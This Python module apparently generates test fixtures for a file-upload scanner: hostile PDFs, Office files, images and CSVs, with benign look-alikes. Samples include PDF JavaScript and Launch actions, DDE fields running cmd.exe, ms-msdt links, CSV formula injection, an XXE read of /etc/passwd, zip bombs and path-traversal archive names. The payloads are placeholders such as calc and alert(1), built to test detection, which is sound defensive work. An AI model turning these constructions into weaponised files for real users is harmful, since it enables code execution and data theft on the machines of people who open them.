"""Files that do harm, burst, hide something or lie, made here so that none lies in the repository;
and ordinary ones much like them. Each by the name it is sent under."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping

from docx import Document
from openpyxl import Workbook

MEGABYTE = 1024 * 1024
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
OFFICE = "application/vnd.openxmlformats-officedocument."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


# PDF ------------------------------------------------------------------------------------------

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def pdf(*more: bytes, catalog: bytes = CATALOG, trailer: bytes = b"") -> bytes:
    """A PDF with a table of its objects; ``more`` become objects 4, 5 and so on."""
    written, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate([catalog, PAGES, PAGE, *more], start=1):
        places.append(len(written))
        written += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    return written + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, trailer, table,
    )  # fmt: skip


def stream(content: bytes, about: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (about, len(content)) + content + b"\nendstream"


def packed(content: bytes, about: bytes = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode") -> bytes:
    return stream(zlib.compress(content), about)


def disguised(name: bytes) -> bytes:
    return b"".join(b"#%02X" % letter for letter in name)


def with_action(action: bytes) -> bytes:
    return pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<" + action + b">>>>")


def opening(action: bytes) -> bytes:
    return CATALOG[:-2] + b"/OpenAction" + action + b">>"


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HEXED = zlib.compress(b"9 0  " + SCRIPT).hex().encode() + b">"

HOSTILE_PDFS: Mapping[str, Callable[[], bytes]] = {
    "script on opening": lambda: pdf(catalog=opening(SCRIPT)),
    "script in an object": lambda: pdf(SCRIPT, catalog=opening(b" 4 0 R")),
    "script in the tree of names": lambda: pdf(
        SCRIPT, catalog=CATALOG[:-2] + b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>"
    ),
    "script when a page is left": lambda: pdf(b"<</AA<</C" + SCRIPT + b">>>>"),
    "one letter in disguise": lambda: pdf(SCRIPT.replace(b"JavaScript", b"J#61vaScript")),
    "every letter in disguise": lambda: pdf(
        SCRIPT.replace(b"JavaScript", disguised(b"JavaScript"))
    ),
    "script packed with objects": lambda: pdf(packed(b"9 0  " + SCRIPT)),
    "script packed in disguise": lambda: pdf(packed(b"9 0  " + SCRIPT.replace(b"Java", b"#4aava"))),
    "packed group in disguise": lambda: pdf(
        packed(b"9 0  " + SCRIPT, b"/Type/Obj#53tm/N 1/First 5/Filter/FlateDecode")
    ),
    "packed group that does not say so": lambda: pdf(
        packed(b"9 0  " + SCRIPT, b"/N 1/First 5/Filter/FlateDecode")
    ),
    "packed group called by a reference": lambda: pdf(
        packed(b"9 0  " + SCRIPT, b"/Type 5 0 R/N 1/Fir#73t 5/Filter/FlateDecode"), b"/ObjStm"
    ),
    "packed twice": lambda: pdf(
        stream(HEXED, b"/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]")
    ),
    "packed in another way": lambda: pdf(
        stream(b"\x80", b"/Type/ObjStm/N 1/First 5/Filter/LZWDecode")
    ),
    "packed with a predictor": lambda: pdf(
        packed(
            b"9 0  " + SCRIPT,
            b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode/DecodeParms<</Predictor 12>>",
        )
    ),
    "packed group damaged after the script": lambda: pdf(
        stream(
            zlib.compress(b"9 0  " + SCRIPT + bytes(50_000), 0)[: -60_000 // 2],
            b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode",
        )
    ),
    "packed group whose words are cut": lambda: pdf(
        packed(
            b"9 0  " + SCRIPT,
            b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode/X( 1 0 obj )",
        )
    ),
    "packed bomb": lambda: pdf(packed(bytes(120 * MEGABYTE))),
    "script at the edge of what is read at once": lambda: pdf(
        stream(b"0" * (MEGABYTE - 270), b""), SCRIPT
    ),
    "script hidden in the bytes of a picture": lambda: pdf(
        stream(b"\xff\xd8" + b"9 0 obj" + SCRIPT + b"endobj", b"/Subtype/Image/Filter/DCTDecode")
    ),
    "starts a program": lambda: with_action(b"/S/Launch/F(cmd.exe)"),
    "opens another file": lambda: with_action(b"/S/GoToR/F(\\\\\\\\server\\\\a.pdf)/D[0/Fit]"),
    "opens a file inside": lambda: with_action(b"/S/GoToE/D[0/Fit]"),
    "sends a form": lambda: with_action(b"/S/SubmitForm/F(http://example.com)"),
    "takes data in": lambda: with_action(b"/S/ImportData/F(a.fdf)"),
    "plays a film": lambda: with_action(b"/S/Rendition/OP 0"),
    "holds a film": lambda: pdf(b"<</Subtype/Movie/Movie<</F(a.avi)>>>>"),
    "holds 3D": lambda: pdf(b"<</Subtype/RichMedia>>"),
    "holds a file": lambda: pdf(
        stream(b"MZ", b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"
    ),
    "holds a file that is not called one": lambda: pdf(
        stream(b"MZ"), b"<</Type/Filespec/F(a.exe)/EF <</F 4 0 R>>>>"
    ),
    "holds a list of files": lambda: pdf(
        catalog=CATALOG[:-2] + b"/Names<</EmbeddedFiles 4 0 R>>>>"
    ),
    "has a file pinned to a page": lambda: pdf(b"<</Subtype/FileAttachment/FS 5 0 R>>"),
    "is a portfolio": lambda: pdf(catalog=CATALOG[:-2] + b"/Collection<<>>>>"),
    "is an XFA form": lambda: pdf(catalog=CATALOG[:-2] + b"/AcroForm<</XFA 4 0 R>>>>"),
    "has a password": lambda: pdf(trailer=b"/Encrypt 4 0 R"),
    "opens a page of the web by itself": lambda: pdf(
        catalog=opening(b"<</S/URI/URI(http://example.com)>>")
    ),
    "the same in an object": lambda: pdf(
        b"<</S/URI/URI(http://example.com)>>", catalog=opening(b" 4 0 R")
    ),
    "a page of the web": lambda: b"<html><script>alert(1)</script></html>",
    "text before its beginning": lambda: b"<html>" + pdf(),
    "without an end": lambda: pdf()[:-6],
    "more behind its end": lambda: pdf() + b"<script>" * 1000,
    "an archive behind its end": lambda: pdf() + zipped({"a.exe": b"MZ"}) + b"%%EOF",
    "far too many streams": lambda: pdf(b"stream\n" * 110_000),
    "far too many names in disguise": lambda: pdf(b"/#41" * 50_000),
}


# Office ---------------------------------------------------------------------------------------


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def document() -> bytes:
    buffer = io.BytesIO()
    word = Document()
    word.add_heading("Recovery plan")
    word.add_paragraph("We restore within four hours.")
    word.save(buffer)
    return buffer.getvalue()


def workbook() -> bytes:
    buffer, book = io.BytesIO(), Workbook()
    book.active.append(["Item", "Price"])
    book.active.append(["Sensor", 12.5])
    book.active["B3"] = "=SUM(B2:B2)"
    book.active["A4"] = "The council"
    book.active["A4"].hyperlink = "https://example.gov.uk/a?b=c#d"
    book.save(buffer)
    return buffer.getvalue()


def presentation() -> bytes:
    return zipped(
        {
            "[Content_Types].xml": types(
                {"/ppt/presentation.xml": OFFICE + "presentationml.presentation.main+xml"}
            ),
            "_rels/.rels": relations([("officeDocument", "ppt/presentation.xml", False)]),
            "ppt/presentation.xml": HEAD + b"<presentation/>",
        }
    )


def types(overrides: Mapping[str, str], defaults: Mapping[str, str] | None = None) -> bytes:
    defaults = {"xml": "application/xml"} | dict(defaults or {})
    defaults |= {"rels": "application/vnd.openxmlformats-package.relationships+xml"}
    lines = [f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in defaults.items()]
    lines += [f'<Override PartName="{k}" ContentType="{v}"/>' for k, v in overrides.items()]
    return HEAD + f'<Types xmlns="{PACKAGE}content-types">{"".join(lines)}</Types>'.encode()


def relations(entries: Iterable[tuple[str, str, bool]]) -> bytes:
    lines = [
        f'<Relationship Id="r{number}" Type="{RELATIONS}{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for number, (kind, target, outside) in enumerate(entries)
    ]
    return (
        HEAD
        + f'<Relationships xmlns="{PACKAGE}relationships">{"".join(lines)}</Relationships>'.encode()
    )  # noqa: E501


def changed(data: bytes, more: Mapping[str, bytes] | None = None, **typed: str) -> bytes:
    """The file with members added or replaced; ``typed`` adds types: extension → type."""
    members = members_of(data)
    if typed:
        new = "".join(f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in typed.items())
        kinds = members["[Content_Types].xml"]
        members["[Content_Types].xml"] = kinds.replace(b"</Types>", new.encode() + b"</Types>")
    return zipped(members | dict(more or {}))


def leading_to(kind: str, target: str, *, outside: bool = True, within: bytes = b"") -> bytes:
    """A document with one relationship more."""
    data = within or document()
    rels = "word/_rels/document.xml.rels"
    line = f'<Relationship Id="r99" Type="{RELATIONS}{kind}" Target="{target}"'
    line += ' TargetMode="External"/>' if outside else "/>"
    old = members_of(data)[rels]
    return changed(
        data, {rels: old.replace(b"</Relationships>", line.encode() + b"</Relationships>")}
    )


def saying(*runs: str, part: str = "word/footnotes.xml") -> bytes:
    """A document with a part that holds these pieces of WordprocessingML."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:footnotes xmlns:w="{space}">{"".join(runs)}</w:footnotes>'
    return changed(document(), {part: HEAD + body.encode()})


def field(*code: str) -> list[str]:
    texts = [f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code]
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return [begin, *texts, end]


def spoiled(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    assert old in data
    return data.replace(old, new, count)


def retyped(old: str, new: str, data: bytes) -> bytes:
    members = members_of(data)
    kinds = members["[Content_Types].xml"]
    return zipped(members | {"[Content_Types].xml": spoiled(kinds, old.encode(), new.encode(), -1)})


def lying_about_size() -> bytes:
    """The first headers say 1 KB where 50 MB come out."""
    data = bytearray(zipped(members_of(document()) | {"zeros.bin": bytes(50 * MEGABYTE)}))
    small = struct.pack("<L", 1024)
    size = struct.pack("<L", 50 * MEGABYTE)
    return bytes(data).replace(size, small)


def overlapping() -> bytes:
    """Two entries of the table of contents lead to the same bytes."""
    plain = zipped(members_of(document()) | {"a.bin": b"x" * 99, "b.bin": b"x" * 99}, 0)
    table = plain.index(b"PK\x01\x02")
    first = plain.index(b"a.bin", table) - 46
    second = plain.index(b"b.bin", table) - 46
    data = bytearray(plain)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def twice(first: str, second: str) -> bytes:
    """Two members with one name, or with names that differ in case only."""
    plain = zipped(members_of(document()) | {"word/x1.xml": HEAD + b"<a/>", "word/x2.xml": OLE})
    plain = plain.replace(b"word/x1.xml", first.encode())
    return plain.replace(b"word/x2.xml", second.encode())


def claiming_many() -> bytes:
    data = bytearray(document())
    data[-14:-10] = struct.pack("<2H", 60_000, 60_000)
    return bytes(data)


def commented(comment: bytes) -> bytes:
    return document()[:-2] + struct.pack("<H", len(comment)) + comment


def in_a_local_header(place: int, value: bytes) -> bytes:
    data = bytearray(zipped(members_of(document()), 0))
    data[place : place + len(value)] = value
    return bytes(data)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{}</svg>'
BODY = "word/document.xml"
LAUGHS = b"<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>"

HOSTILE_DOCUMENTS: Mapping[str, Callable[[], bytes]] = {
    "macros": lambda: changed(
        document(), {"word/vbaProject.bin": OLE}, bin="application/vnd.ms-office.vbaProject"
    ),
    "macros without a word about them": lambda: changed(
        document(), {"word/vbaProject.bin": b"not even OLE"}
    ),
    "macros under another name": lambda: changed(document(), {"word/media/image1.png": OLE}),
    "a document with macros renamed": lambda: retyped(
        OFFICE + "wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        document(),
    ),
    "a template renamed": lambda: retyped("document.main+xml", "template.main+xml", document()),
    "a template from the web": lambda: leading_to("attachedTemplate", "http://example.com/a.dotm"),
    "a template from a server": lambda: leading_to(
        "attachedTemplate", "file:///\\\\server\\share\\a.dotm"
    ),
    "a template from a server, other slashes": lambda: leading_to(
        "attachedTemplate", "file://server/share/a.dotm"
    ),
    "a picture from the web": lambda: leading_to("image", "http://example.com/a.png"),
    "an object from the web": lambda: leading_to("oleObject", "http://example.com/a.html!"),
    "a frame from the web": lambda: leading_to("frame", "http://example.com/"),
    "a document from the web": lambda: leading_to("subDocument", "http://example.com/a.docx"),
    "something else from the web": lambda: leading_to("somethingNew", "http://example.com/"),
    "a link that starts a program": lambda: leading_to("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link that searches": lambda: leading_to("hyperlink", "search-ms:query=a&amp;crumb=b"),
    "a link that runs a script": lambda: leading_to("hyperlink", "javascript:alert(1)"),
    "a link to a server": lambda: leading_to("hyperlink", "\\\\server\\share"),
    "a link to a server as a file": lambda: leading_to("hyperlink", "file://server/share/a"),
    "an object inside": lambda: changed(
        document(), {"word/embeddings/oleObject1.bin": OLE}, bin=OFFICE + "oleObject"
    ),
    "an object without a type": lambda: changed(document(), {"word/embeddings/a.bin": OLE}),
    "a document inside": lambda: changed(document(), {"word/embeddings/a.docx": document()}),
    "an archive as a picture": lambda: changed(
        document(), {"word/media/image1.png": zipped({"a": b"b"})}
    ),
    "a web page as part of the text": lambda: leading_to("aFChunk", "a.html", outside=False),
    "a control": lambda: leading_to("control", "activeX/activeX1.xml", outside=False),
    "a control by its type": lambda: changed(
        document(), {"word/activeX/activeX1.foo": b"x"}, foo="application/vnd.ms-office.activeX+xml"
    ),
    "an add-in": lambda: leading_to(
        "webextensiontaskpanes", "webextensions/taskpanes.xml", outside=False
    ),
    "a program": lambda: changed(document(), {"word/media/image1.png": b"MZ\x90\0" + bytes(90)}),
    "a script": lambda: changed(document(), {"word/run.js": b"alert(1)"}),
    "a shortcut": lambda: changed(document(), {"word/a.lnk": b"L\0\0\0"}),
    "a field that starts a program": lambda: saying(
        '<w:fldSimple w:instr="DDEAUTO c:\\\\a.exe b"/>'
    ),
    "the same in pieces": lambda: saying(*field(" D", "DEA", 'UTO "cmd.exe" "/k calc"')),
    "the same in small letters": lambda: saying(*field("dde cmd a")),
    "a field within a field": lambda: saying(
        *field(" IF 1 = 1 ")[:-1], *field("DDE cmd a"), *field("x")[-1:]
    ),
    "a field with a picture from the web": lambda: saying(
        *field(' INCLUDEPICTURE "http://exam', 'ple.com/a.png" \\d')
    ),
    "a field with text from a server": lambda: saying(
        *field('INCLUDETEXT "\\\\\\\\server\\\\a.docx"')
    ),
    "a picture with a script": lambda: changed(
        document(), {"word/media/a.svg": SVG.format("<script>alert(1)</script>").encode()}
    ),
    "a picture that waits for the mouse": lambda: changed(
        document(), {"word/media/a.svg": SVG.format('<g onmouseover="a()"/>').encode()}
    ),
    "a picture that fetches another": lambda: changed(
        document(), {"word/media/a.svg": SVG.format('<image x:href="http://a/b"/>').encode()}
    ),
    "a document type": lambda: changed(document(), {BODY: b"<!DOCTYPE a><a/>"}),
    "entities that multiply": lambda: changed(document(), {"docProps/core.xml": LAUGHS}),
    "an entity from the disk": lambda: changed(
        document(),
        {"customXml/a.xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"},
    ),
    "a document type in another encoding": lambda: changed(
        document(), {"customXml/a.xml": "<!DOCTYPE a><a/>".encode("utf-16")}
    ),
    "a document type after 100 KB of spaces": lambda: changed(
        document(), {"customXml/a.xml": b" " * 100_000 + b"<!DOCTYPE a><a/>"}
    ),
    "XML that is none": lambda: changed(document(), {BODY: b"<a><b></a>"}),
    "a bomb": lambda: changed(document(), {"word/media/a.bmp": bytes(210 * MEGABYTE)}),
    "a bomb that is small for its kind": lambda: changed(
        document(), {"word/media/a.bmp": bytes(20 * MEGABYTE)}
    ),
    "a bomb that lies about its size": lying_about_size,
    "too many members": lambda: changed(
        document(), {f"word/media/{number}.png": b"" for number in range(2_100)}
    ),
    "a table of contents that claims too much": claiming_many,
    "members that overlap": overlapping,
    "two members of one name": lambda: twice("word/xx.xml", "word/xx.xml"),
    "two names that differ in case": lambda: twice("word/xx.xml", "word/XX.xml"),
    "a name that leads outside": lambda: changed(document(), {"../../etc/cron.d/a": b"x"}),
    "a name from the root": lambda: changed(document(), {"/etc/passwd": b"x"}),
    "a name with backslashes": lambda: spoiled(
        changed(document(), {"a/../b.txt": b"x"}), b"a/../b.txt", b"a\\..\\b.txt", -1
    ),
    "a name with a line break": lambda: changed(document(), {"word/a\nb.xml": HEAD + b"<a/>"}),
    "another name in the other header": lambda: in_a_local_header(30, b"[Content_Typez].xml"),
    "another sum in the other header": lambda: in_a_local_header(14, b"\x01\x02\x03\x04"),
    "another way of packing in the other header": lambda: in_a_local_header(8, b"\x08\0"),
    "a sum that is wrong": lambda: spoiled(
        zipped(members_of(document()), 0), b"four hours", b"five hours"
    ),
    "a picture before its beginning": lambda: b"GIF89a" + document(),
    "bytes before its beginning, well counted": lambda: b"PK\x03\x04" + document(),
    "more behind its end": lambda: document() + b"<script>alert(1)</script>",
    "a comment at its end": lambda: commented(b"MZ\0\0"),
    "a comment of markup": lambda: commented(b"<script>alert(1)</script>"),
    "a comment that is an end": lambda: commented(b"PK\x05\x06" + bytes(18)),
    "a comment longer than any": lambda: commented(b"x" * 5_000),
    "a comment longer than it says": lambda: commented(b"by a program") + b"and more",
    "a password": lambda: spoiled(
        in_a_local_header(6, b"\x01\0"),
        b"PK\x01\x02\x14\x03\x14\0\0\0",
        b"PK\x01\x02\x14\x03\x14\0\x01\0",
    ),
    "a password as Word gives it": lambda: OLE,
    "an unusual way of packing": lambda: zipped(members_of(document()), zipfile.ZIP_BZIP2),
    "nothing that says what is in it": lambda: zipped({"word/document.xml": b"<a/>"}),
    "an Excel file": workbook,
    "an OpenDocument file": lambda: zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, 0
    ),
    "cut short": lambda: document()[:-200],
    "an end alone": lambda: b"PK\x05\x06" + bytes(18),
    "text": lambda: b"PK\x03\x04 this is a letter",
}  # fmt: skip

EXTERNAL = "http://example.com/prices.xlsx"
HOSTILE_WORKBOOKS: Mapping[str, Callable[[], bytes]] = {
    "macros": lambda: changed(workbook(), {"xl/vbaProject.bin": OLE}),
    "macros of the old kind": lambda: changed(
        workbook(), {"xl/macrosheets/sheet1.xml": HEAD + b"<a/>"}
    ),
    "macros of the old kind by their type": lambda: changed(
        workbook(), {"xl/a.foo": b"<a/>"}, foo="application/vnd.ms-excel.macrosheet+xml"
    ),
    "a workbook with macros renamed": lambda: retyped(
        OFFICE + "spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        workbook(),
    ),
    "data from another workbook": lambda: changed(
        workbook(),
        {"xl/externalLinks/_rels/externalLink1.xml.rels": relations(
            [("externalLinkPath", EXTERNAL, True)]
        )},
    ),
    "data from another program": lambda: changed(
        workbook(), {"xl/a.foo": b"<a/>"}, foo=OFFICE + "spreadsheetml.externalLink+xml"
    ),
    "data from a database": lambda: changed(
        workbook(), {"xl/a.foo": b"<a/>"}, foo=OFFICE + "spreadsheetml.connections+xml"
    ),
    "a Word file": document,
}  # fmt: skip


# Pictures and text ----------------------------------------------------------------------------


PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, content: bytes = b"") -> bytes:
    return (
        struct.pack(">L", len(content))
        + kind
        + content
        + struct.pack(">L", zlib.crc32(kind + content))
    )


def png(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    head = struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0)
    dots = zlib.compress(bytes((width + 1) * height if width < 9 else 9))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", dots) + chunk(b"IEND")
    )


def jpeg(width: int = 1, height: int = 1, end: bytes = b"\xff\xd9") -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\0"
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
        + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
        + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0" + b"\x12\x34\xff\0\x56" + end
    )  # fmt: skip


NOT_TAKEN = (
    "exe js vbs bat html htm svg zip 7z rar iso lnk docm xlsm pptm dotm doc xls ppt rtf odt ods "
    "msg eml one hta scr com jar ps1 reg xml mht chm pdf.exe docx."
)
ARCHIVE = zipped({"a.exe": b"MZ"})
HOSTILE_OTHERS: Mapping[str, Callable[[], bytes]] = {
    "page.png": lambda: b"<svg onload='alert(1)'/>",
    "archive behind.png": lambda: png() + ARCHIVE,
    "script behind.png": lambda: png() + b"<script>alert(1)</script>",
    "cut.png": lambda: png()[:-9],
    "flood.png": lambda: png(60_000, 60_000),
    "starts otherwise.png": lambda: PNG + chunk(b"tEXt", b"a" * 20) + chunk(b"IEND"),
    "chunk without end.png": lambda: png()[:33] + b"\xff\xff\xff\xffIDAT",
    "no pixels.jpg": lambda: b"\xff\xd8\xff\xd9",
    "cut.jpg": lambda: jpeg(end=b""),
    "flood.jpg": lambda: jpeg(65_000, 65_000),
    "archive behind.jpg": lambda: jpeg() + ARCHIVE,
    "page.jpeg": lambda: b"\xff\xd8\xff<html>",
    "formula.csv": lambda: b"name,price\n=cmd|' /C calc'!A0,2\n",
    "formula with plus.csv": lambda: b"name;price\n2;+cmd|' /C calc'!A0\n",
    "formula in quotes.csv": lambda: b'a,"=cmd|\'/C calc\'!A0"\n',
    "formula at the edge.csv": lambda: b"a" * 65_530 + b",=cmd|' /C calc'!A0\n",
    "program.txt": lambda: b"MZ\x90\0\x03",
    "wide.txt": lambda: "a letter".encode("utf-16"),
    "latin.csv": lambda: "caf\xe9".encode("latin-1"),
    "cut in a letter.txt": lambda: "caf\xe9".encode()[:-1],
    "broken.json": lambda: b'{"a": }',
    "deep.json": lambda: b"[" * 200_000,
    "large and open.json": lambda: b"[" + b" " * 2 * MEGABYTE,
    "program.yaml": lambda: b"\x7fELF\0",
    **{
        f"a.{ending}": lambda: b"x"
        for ending in (*NOT_TAKEN.split(), "pdf ", "")
    },
}  # fmt: skip


# Ordinary files -------------------------------------------------------------------------------


def report() -> bytes:
    """A document with a table of contents, a header, links, a picture and a drawing."""
    word, buffer = Document(), io.BytesIO()
    word.add_heading("Penetration test report")
    word.sections[0].header.paragraphs[0].text = "Larkfield Sensors"
    word.add_picture(io.BytesIO(png(8, 8)))
    word.add_table(2, 2).cell(0, 0).text = "Finding"
    word.save(buffer)
    drawing = SVG.format('<path d="M0 0"/><image x:href="data:image/png;base64,AA=="/>')
    data = changed(buffer.getvalue(), {"word/media/a.svg": drawing.encode()}, svg="image/svg+xml")
    for target in (
        "https://example.gov.uk/?a=1&amp;b=2",
        "mailto:a@example.org",
        "#top",
        "annex.pdf",
    ):
        data = leading_to("hyperlink", target, within=data).replace(b"r99", b"r9x")
    return leading_to("attachedTemplate", "file:///C:\\Users\\me\\letter.dotx", within=data)


def with_fields() -> bytes:
    return saying(
        *field(' TOC \\o "1-3" \\h \\z \\u '),
        *field(" PAGEREF _Toc123 \\h "),
        *field(' HYPERLINK "https://example.org" '),
        *field(' INCLUDEPICTURE "C:\\\\Users\\\\me\\\\a.png" '),
        '<w:fldSimple w:instr=" REF ADDENDUM \\h "/>',
    )


def with_chart() -> bytes:
    """A document with a chart, which keeps its numbers in a workbook of its own."""
    return changed(
        document(),
        {
            "word/charts/chart1.xml": HEAD + b"<chart/>",
            "word/charts/_rels/chart1.xml.rels": relations(
                [("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)]
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(),
        },
        xlsx=OFFICE + "spreadsheetml.sheet",
    )


def written_as_a_stream() -> bytes:
    """As programs write that do not know sizes in advance, and count in 64 bits."""

    class Unseekable(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_: int) -> int:
            raise OSError

        def tell(self) -> int:
            raise OSError

    buffer = Unseekable()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members_of(workbook()).items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(content)
    return buffer.getvalue()


FORM = b"<</FT/Tx/T(name)/Subtype/Widget/Rect[0 0 9 9]/DA(/Helv 0 Tf)>>"
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.gov.uk/)>>>>"
ORDINARY: Mapping[str, Callable[[], bytes]] = {
    "plain.docx": document,
    "commented.docx": lambda: commented(b"Geschrieben f\xc3\xbcr alle (r. 7)\r\n"),
    "report.docx": report,
    "fields.docx": with_fields,
    "chart.docx": with_chart,
    "prices.xlsx": workbook,
    "streamed.xlsx": written_as_a_stream,
    "slides.pptx": presentation,
    "plain.pdf": pdf,
    "links.pdf": lambda: pdf(LINK),
    "form.pdf": lambda: pdf(FORM, catalog=CATALOG[:-2] + b"/AcroForm<</Fields[4 0 R]>>>>"),
    "opens at page 1.pdf": lambda: pdf(catalog=opening(b"[3 0 R/XYZ null null 0]")),
    "goes to page 1.pdf": lambda: pdf(catalog=opening(b"<</S/GoTo/D[3 0 R/Fit]>>")),
    "goes there by a reference.pdf": lambda: pdf(
        b"<</Type/Action/S/GoTo/D[3 0 R/Fit]>>", catalog=opening(b" 4 0 R")
    ),
    "packed.pdf": lambda: pdf(packed(b"9 0  " + LINK), packed(b"8 0  " + FORM)),
    "spaces in names.pdf": lambda: pdf(b"<</Type/Font/BaseFont/Times#20New#20Roman>>"),
    "talks about scripts.pdf": lambda: pdf(stream(b"BT (JavaScript, Launch and Encrypt) Tj ET")),
    "picture.png": lambda: png(8, 8, chunk(b"tEXt", b"Comment\0hello")),
    "photo.jpg": jpeg,
    "photo of a phone.jpg": lambda: jpeg() + b"SEFT" + bytes(5000),
    "sites.csv": lambda: "\ufeffRoad,\u2116,change\nHigh Street,-3,=A1+B1|\n".encode(),
    "notes.txt": lambda: "Caf\xe9 \u4ef7\u683c".encode(),
    "answers.json": lambda: b'{"a": [1, 2, {"b": null}]}',
    "large.json": lambda: b"[" + b"1," * 600_000 + b"1]\n",
    "answers.yaml": lambda: b"a:\n  - 1\n",
}
